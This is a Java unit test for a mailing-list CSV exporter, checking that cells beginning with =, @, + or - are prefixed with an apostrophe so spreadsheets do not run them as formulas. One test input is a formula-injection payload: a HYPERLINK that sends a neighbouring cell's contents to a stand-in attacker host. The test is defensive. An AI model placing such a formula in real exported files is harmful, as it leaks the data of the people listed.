package nl.stemmen.invite.rest;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.api.Test;

/** A ref that a spreadsheet would run as a formula is written inert; the next cell is the person's link. */
class MailingFileCsvTest {

    @Test
    void formulasAreWrittenInert() {
        assertEquals("'=HYPERLINK(\"http://evil.example/?\"&B2)", MailingFileCsv.inert("=HYPERLINK(\"http://evil.example/?\"&B2)"));
        assertEquals("'@SUM(1+1)", MailingFileCsv.inert("@SUM(1+1)"));
        assertEquals("'+31", MailingFileCsv.inert("+31"));
        assertEquals("'-2+3", MailingFileCsv.inert("-2+3"));
        assertEquals("P001", MailingFileCsv.inert("P001"));
        assertEquals("", MailingFileCsv.inert(""));
    }
}
